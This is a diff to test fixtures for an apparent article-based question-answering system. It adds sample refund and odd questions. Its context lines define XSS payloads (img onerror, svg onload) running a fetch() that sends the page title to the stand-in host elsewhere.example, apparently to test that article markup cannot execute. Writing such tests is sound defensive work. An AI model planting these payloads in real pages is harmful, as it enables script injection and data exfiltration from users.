@@ -14,8 +14,10 @@ from tests.fake_index import FakeArticle, FakeIndex
 
 QUESTION = "When is a refund paid?"
 FIRST = "A refund is paid within ten days."
-LATER = "A refund is never paid in cash."
-ODD_QUESTION = "How are rabbits bred?"
+LATER = "A refund is not paid in cash, ever."
+CASH_QUESTION = "Is a refund paid in cash?"
+ODD_QUESTION = "Does Norway tax the refund that we got?"
+STRANGE_QUESTION = "How are rabbits bred?"
 
 GERMAN_FIRST = "Eine Erstattung wird binnen dreißig Tagen gezahlt."
 GERMAN_SOURCE = "A refund is paid within thirty days."
@@ -77,7 +79,9 @@ DRIFTS = {
 
 # What a script of an article would do, were there a way for it to run: leave a mark, call elsewhere.
 STRUCK = "window.struck=1;fetch('https://elsewhere.example/'+document.title)"
-HOSTILE_QUESTION = "zebra stripes zebra"
+# An answer has sentences of three articles at most.
+HOSTILE_QUESTIONS = ("zebra stripes zebra", "zebra stripes 3 iframe srcdoc")
+HOSTILE_ODD_QUESTION = "Does Norway tax the zebra stripes that we got?"
 HOSTILE_MARKUP = (
     f'<img src=x onerror="{STRUCK}">',
     f"<svg onload={STRUCK!r}><a href='https://elsewhere.example/'>zebra</a></svg>",
